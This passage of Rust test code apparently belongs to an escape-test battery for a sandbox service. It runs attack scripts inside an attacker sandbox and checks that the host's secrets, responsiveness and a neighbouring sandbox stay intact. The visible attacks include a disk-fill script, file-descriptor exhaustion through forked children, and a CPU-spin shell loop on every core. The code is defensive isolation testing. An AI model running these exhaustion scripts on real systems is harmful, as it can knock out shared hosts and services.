                ("docker", "the engine's storage (overlay2 on ext4) takes no size limit"),
                ("gvisor", "runsc does not bound its overlay file"),
            ],
        },
        Case {
            name: "disk fill of /workspace (its quota)",
            script: Script::Py(FILL.replace_str("@@DIR@@", "/workspace")),
            check: workspace_fill_check,
            survives_on: &[],
        },
        Case {
            name: "fd exhaustion",
            script: Script::Py(
                r#"
import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
attempt("raise RLIMIT_NOFILE", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (hard * 16, hard * 16)))
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
kids = []
for i in range(8):
    pid = os.fork()
    if pid == 0:
        fds = []
        try:
            while True:
                fds.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as e:
            out("child", i, "opened", len(fds), type(e).__name__)
        time.sleep(15)
        os._exit(0)
    kids.append(pid)
for k in kids:
    os.waitpid(k, 0)
"#,
            ),
            check: |ctx, run| {
                Box::pin(async move {
                    let f = std::fs::File::open("/dev/null");
                    if f.is_err() {
                        return Verdict::Survived("the host cannot open a file".into());
                    }
                    verdict(leaked(run, &secrets(ctx)), run)
                })
            },
            survives_on: &[],
        },
        Case {
            name: "CPU spin on every core",
            script: Script::Sh(
                "for i in 1 2 3 4 5 6 7 8; do timeout -s KILL 20 sh -c 'while :; do :; done' & done; wait; echo spun",
            ),
            check: no_secret,
            survives_on: &[],
        },
    ]
}

/// A disk-fill attack on `@@DIR@@`: a file kept first, then writes until the disk is full
/// (at most the disk limit and 64 MiB more, so that an unbounded disk is not filled), then
/// the kept file checked, and the fill removed.
const FILL: &str = r#"
import hashlib
d = "@@DIR@@"
keep = os.urandom(1 << 20)
with open(d + "/keep.bin", "wb") as f:
    f.write(keep)
    f.flush()
    os.fsync(f.fileno())
cap = (@@DISK_MB@@ + 64) << 20
if d == "/workspace":
    cap = (@@WORKSPACE_QUOTA_MB@@ + 64) << 20
written, err = 0, "none"
chunk = b"\xa5" * (1 << 20)
try:
    with open(d + "/fill.bin", "wb") as f:
        while written < cap:
            f.write(chunk)
            written += len(chunk)
        f.flush()
        os.fsync(f.fileno())
except OSError as e:
    err = errno.errorcode.get(e.errno, str(e.errno))
out("wrote", written, err)
with open(d + "/keep.bin", "rb") as f:
    out("keep", "ok" if hashlib.sha256(f.read()).digest() == hashlib.sha256(keep).digest() else "CHANGED")
os.remove(d + "/fill.bin")
"#;

trait ReplaceStr {
    fn replace_str(self, from: &str, to: &str) -> &'static str;
}

impl ReplaceStr for &'static str {
    /// The text with `from` replaced, leaked: the table is made once per battery.
    fn replace_str(self, from: &str, to: &str) -> &'static str {
        Box::leak(self.replace(from, to).into_boxed_str())
    }
}

static MODULES_BEFORE: Mutex<String> = Mutex::new(String::new());
static CLOCK_AT: Mutex<Option<(SystemTime, Instant)>> = Mutex::new(None);

/// What the responsiveness probe saw during one attack.
#[derive(Debug, Default)]
pub struct Probe {
    /// Rounds completed.
    pub rounds: usize,
    /// The slowest answer of `/health` and of an exec in the victim.
    pub slowest: Duration,
    /// Answers missing or wrong.
    pub failures: Vec<String>,
}

/// Probe `/health` and an exec in the victim once a second until `stop`.
pub async fn probe(c: Client, victim: String, stop: Arc<AtomicBool>) -> Probe {
    let mut p = Probe::default();
    while !stop.load(Ordering::Relaxed) {
        let t0 = Instant::now();
        match tokio::time::timeout(RESPONSIVE_WITHIN, c.health()).await {
            Ok(Ok(_)) => {}
            Ok(Err(e)) => p.failures.push(format!("/health: {e}")),
            Err(_) => p
                .failures
                .push(format!("/health: no answer within {RESPONSIVE_WITHIN:?}")),
        }
        let req = ExecRequest {
            cmd: Some(vec!["echo".into(), "ok".into()]),
            ..Default::default()
        };
        match tokio::time::timeout(RESPONSIVE_WITHIN, c.exec(&victim, &req)).await {
            Ok(Ok(r)) if r.stdout == "ok\n" => {}
            Ok(Ok(r)) => p.failures.push(format!("exec in the victim: {r:?}")),
            Ok(Err(e)) => p.failures.push(format!("exec in the victim: {e}")),
            Err(_) => p.failures.push(format!(
                "exec in the victim: no answer within {RESPONSIVE_WITHIN:?}"
            )),
        }
        p.slowest = p.slowest.max(t0.elapsed());
        p.rounds += 1;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    p
}

/// One row of the summary.
#[derive(Debug, Clone)]
pub struct Row {
    /// The case.
    pub case: &'static str,
    /// The backend.
    pub backend: &'static str,
    /// What happened.
    pub verdict: Verdict,
    /// Why it was expected to survive, if it was.
    pub expected_survivor: Option<&'static str>,
}

/// The host fixtures of a battery, kept alive while it runs.
pub struct Fixtures {
    /// `DEFAULT_MOUNT_DIR`, on a file system of its own.
    pub workspaces: LoopFs,
    /// The host directory mounted read-only in every sandbox.
    pub ro: tempfile::TempDir,
    /// A Redis on host loopback.
    pub redis: sandboxd_store::testing::RedisServer,
}

impl Fixtures {
    /// Make them; `server_env` is what the battery's server needs of them.
    pub fn new() -> (Fixtures, Vec<(String, String)>) {
        let workspaces = LoopFs::new(WORKSPACES_FS_MB);
        let ro = tempfile::tempdir().unwrap();
        std::fs::write(ro.path().join("canary.txt"), "canary\n").unwrap();
        std::fs::set_permissions(
            ro.path().join("canary.txt"),
            std::os::unix::fs::PermissionsExt::from_mode(0o644),
        )
        .unwrap();
        let env = vec![
            (
                "DEFAULT_MOUNT_DIR".to_string(),
                workspaces.dir.display().to_string(),
            ),
            (
                "READONLY_MOUNTS".to_string(),
                format!("{}:/ro", ro.path().display()),
            ),
            (
                "SANDBOXD_WORKSPACE_MB".to_string(),
                WORKSPACE_QUOTA_MB.to_string(),
            ),
        ];
        let redis = sandboxd_store::testing::RedisServer::start();
        (
            Fixtures {
                workspaces,
                ro,
                redis,
            },
            env,
        )
    }
}

/// A small ext4 file system in a sparse image, loop-mounted; unmounted when dropped.
pub struct LoopFs {
    /// Where it is mounted.
    pub dir: PathBuf,
    _tmp: tempfile::TempDir,
}

impl LoopFs {
    /// Make and mount one of `mb` MiB.
    pub fn new(mb: u64) -> LoopFs {
        let tmp = tempfile::Builder::new()
            .prefix("sandboxd-escape-fs-")
            .tempdir()
            .unwrap();
        let image = tmp.path().join("fs.img");
        let dir = tmp.path().join("mnt");
        std::fs::create_dir(&dir).unwrap();
        let f = std::fs::File::create(&image).unwrap();
        f.set_len(mb << 20).unwrap();
        drop(f);
        let ok = Command::new("mkfs.ext4")
            .args(["-q", "-F", "-m", "0"])
            .arg(&image)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "mkfs.ext4 (e2fsprogs) is needed");
        let ok = Command::new("mount")
            .args(["-o", "loop"])
            .arg(&image)
            .arg(&dir)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "mount -o loop {}", image.display());
        // Workspaces are made by the server; the secret of the host sits beside them.
        LoopFs { dir, _tmp: tmp }
    }
}

impl Drop for LoopFs {
    fn drop(&mut self) {
        let _ = Command::new("umount")
            .arg("-l")
            .arg(&self.dir)
            .stderr(Stdio::null())
            .status();
    }
}

/// The major and minor numbers of the host root file system's device, and the hex of the
/// first 12 bytes of its superblock.
fn host_disk() -> (u32, u32, String) {
    let info = read("/proc/self/mountinfo");
    let line = info
        .lines()
        .find(|l| l.split_whitespace().nth(4) == Some("/"))
        .expect("the root mount");
    let mm = line.split_whitespace().nth(2).unwrap();
    let (maj, min) = mm.split_once(':').unwrap();
    let (maj, min): (u32, u32) = (maj.parse().unwrap(), min.parse().unwrap());
    let mut hex = String::new();
    let uevent = read(format!("/sys/dev/block/{maj}:{min}/uevent"));
    let dev = uevent
        .lines()
        .find_map(|l| l.strip_prefix("DEVNAME="))
        .map(|n| format!("/dev/{n}"))
        .unwrap_or_default();
    if let Ok(mut f) = std::fs::File::open(dev) {
        use std::io::{Seek, SeekFrom};
        let mut b = [0u8; 12];
        if f.seek(SeekFrom::Start(1024)).is_ok() && f.read_exact(&mut b).is_ok() {
            hex = b.iter().map(|x| format!("{x:02x}")).collect();
        }
    }
    (maj, min, hex)
}

fn host_ips() -> Vec<String> {
    let out = Command::new("hostname").arg("-I").output();
    out.map(|o| {
        String::from_utf8_lossy(&o.stdout)
            .split_whitespace()
            .map(str::to_string)
            .collect()
    })
    .unwrap_or_default()
}

/// Run every case on `server` (whose backend is `backend`, and which was started with the
/// [`Fixtures`]' environment), print the summary, and give its rows.
pub async fn run_battery(server: &Server, backend: &'static str, fx: &Fixtures) -> Vec<Row> {
    assert_eq!(
        std::env::consts::ARCH,
        "x86_64",
        "the cases use x86_64 system call numbers"
    );
    let c = server.client();
    let nanos = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let token = format!("s{:x}{:x}", std::process::id(), nanos);
    let mark = format!(
        "m{:x}",
        nanos.wrapping_mul(0x9e37_79b9_7f4a_7c15) & 0xffff_ffff_ffff
    );
    let mount_dir = fx.workspaces.dir.clone();
    let secret = mount_dir.join("escape-secret.txt");
    std::fs::write(&secret, format!("host secret {token}\n")).unwrap();
    // Its environment holds the secret, its command line the mark.
    let canary = {
        use std::os::unix::process::CommandExt;
        Command::new("sleep")
            .arg0(format!("escape-canary-{mark}"))
            .arg("100000")
            .env("ESCAPE_TOKEN", &token)
            .stdin(Stdio::null())
            .spawn()
            .unwrap()
    };
    let tcp = TcpListener::bind("0.0.0.0:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let udp = UdpSocket::bind("0.0.0.0:0").unwrap();
    udp.set_nonblocking(true).unwrap();
    let abstract_listener = {
        use std::os::linux::net::SocketAddrExt;
        let addr = std::os::unix::net::SocketAddr::from_abstract_name(
            format!("sandboxd-escape-host-{mark}").as_bytes(),
        )
        .unwrap();
        UnixListener::bind_addr(&addr).unwrap()
    };
    abstract_listener.set_nonblocking(true).unwrap();
    let unix_listener = UnixListener::bind(server.state.path().join("escape.sock")).unwrap();
    unix_listener.set_nonblocking(true).unwrap();
    let (maj, min, superblock_hex) = host_disk();
    // The token in the host's kernel log, and on host loopback (for sniffers) all along.
    let _ = std::fs::write("/dev/kmsg", format!("sandboxd-escape-{token}\n"));
    let sniffed = Arc::new(AtomicBool::new(false));
    let chatter = {
        let stop = sniffed.clone();
        let token = token.clone();
        std::thread::spawn(move || {
            let s = UdpSocket::bind("127.0.0.1:0").unwrap();
            while !stop.load(Ordering::Relaxed) {
                let _ = s.send_to(format!("chatter {token}").as_bytes(), "127.0.0.1:9");
                std::thread::sleep(Duration::from_millis(50));
            }
        })
    };

    let victim = c.create(&create_req()).await.unwrap().id;
    let template = sandboxd_e2e::templates_dir().join("base/rootfs");
    let mut vars: BTreeMap<&'static str, String> = BTreeMap::new();
    vars.insert("T", mark.clone());
    vars.insert("S", token.clone());
    vars.insert("SECRET", secret.display().to_string());
    vars.insert("SECRET_NAME", "escape-secret.txt".into());
    vars.insert("MOUNT_DIR", mount_dir.display().to_string());
    vars.insert("STATE_DIR", server.state.path().display().to_string());
    vars.insert(
        "RUN_DIR",
        server.state.path().join("run").display().to_string(),
    );
    vars.insert("TEMPLATE", template.display().to_string());
    vars.insert("SERVER_PID", server.pid().unwrap().to_string());
    vars.insert("CANARY_PID", canary.id().to_string());
    vars.insert(
        "API_PORT",
        server.url.rsplit(':').next().unwrap().to_string(),
    );
    vars.insert("REDIS_PORT", fx.redis.port.to_string());
    vars.insert("TCP_PORT", tcp.local_addr().unwrap().port().to_string());
    vars.insert("UDP_PORT", udp.local_addr().unwrap().port().to_string());
    vars.insert("HOST_IPS", host_ips().join(" "));
    vars.insert("VICTIM", victim.clone());
    vars.insert("DISK_MAJ", maj.to_string());
    vars.insert("DISK_MIN", min.to_string());
    vars.insert("DISK_MB", ATTACKER_DISK_MB.to_string());
    vars.insert("WORKSPACE_QUOTA_MB", WORKSPACE_QUOTA_MB.to_string());
    vars.insert(
        "PID_MAX",
        read("/proc/sys/kernel/pid_max").trim().to_string(),
    );
    let mut ctx = Ctx {
        backend,
        c: c.clone(),
        attacker: String::new(),
        victim,
        victim_sleep: String::new(),
        token: token.clone(),
        mark,
        vars,
        mount_dir,
        state_dir: server.state.path().to_path_buf(),
        template,
        secret,
        ro_canary: fx.ro.path().join("canary.txt"),
        canary,
        server_pid: server.pid().unwrap(),
        redis_port: fx.redis.port,
        tcp,
        udp,
        abstract_listener,
        unix_listener,
        superblock_hex,
    };
    start_victim(&mut ctx).await;

    let mut rows = Vec::new();
    for case in cases() {
        *BEFORE.lock().unwrap() = host_settings();
        *SYSRQ_BEFORE.lock().unwrap() = kernel_log_lines("sysrq");
        *MODULES_BEFORE.lock().unwrap() = read("/proc/modules");
        *CLOCK_AT.lock().unwrap() = Some((SystemTime::now(), Instant::now()));
        ctx.attacker = c.create(&attacker_req()).await.unwrap().id;
        let stop = Arc::new(AtomicBool::new(false));
        let probing = tokio::spawn(probe(c.clone(), ctx.victim.clone(), stop.clone()));
        let run = ctx.attack(case.script).await;
        let mut verdict = (case.check)(&ctx, &run).await;
        stop.store(true, Ordering::Relaxed);
        let p = probing.await.unwrap();
        if !p.failures.is_empty() {
            verdict = Verdict::Survived(format!(
                "the host or the other sandbox stopped answering: {:?}",
                p.failures
            ));
        }
        if let Err(e) = ctx.victim_intact().await {
            verdict = Verdict::Survived(e);
        }
        let _ = c.delete(&ctx.attacker).await;
        let expected_survivor = case
            .survives_on
            .iter()
            .find(|(b, _)| *b == backend)
            .map(|(_, why)| *why);
        eprintln!(
            "[{backend}] {}: {verdict:?} (probe: {} rounds, slowest {:?})",
            case.name, p.rounds, p.slowest
        );
        rows.push(Row {
            case: case.name,
            backend,
            verdict,
            expected_survivor,
        });
    }
    sniffed.store(true, Ordering::Relaxed);
    let _ = chatter.join();
    let _ = c.delete(&ctx.victim).await;
    let _ = ctx.canary.kill();
    let _ = ctx.canary.wait();
    let _ = std::fs::remove_file(&ctx.secret);
    print_summary(&rows);
    rows
}

/// The summary table, in Markdown, on stdout (`cargo test -- --nocapture` shows it).
pub fn print_summary(rows: &[Row]) {
    let mut s = String::from("\n| case | backend | result | detail |\n|---|---|---|---|\n");
    for r in rows {
        let (res, detail) = match &r.verdict {
            Verdict::Denied(d) => ("denied", d.clone()),
            Verdict::Survived(d) => match r.expected_survivor {
                Some(why) => ("survived (expected)", format!("{d}; {why}")),
                None => ("SURVIVED", d.clone()),
            },
        };
        let detail: String = detail.replace('|', "/").chars().take(100).collect();
        s.push_str(&format!(
            "| {} | {} | {res} | {detail} |\n",
            r.case, r.backend
        ));
    }
    let denied = rows
        .iter()
        .filter(|r| matches!(r.verdict, Verdict::Denied(_)))
        .count();
    s.push_str(&format!(
        "\ncases tried: {}, denied: {denied}, survived: {}\n",
        rows.len(),
        rows.len() - denied
    ));
    println!("{s}");
}

/// Fail unless every survivor was an expected one.
pub fn assert_held(rows: &[Row]) {
    let bad: Vec<_> = rows
        .iter()
        .filter(|r| matches!(r.verdict, Verdict::Survived(_)) && r.expected_survivor.is_none())
        .map(|r| format!("{} on {}: {:?}", r.case, r.backend, r.verdict))
        .collect();
    assert!(
        bad.is_empty(),
        "walls that did not hold:\n{}",
        bad.join("\n")
    );
}
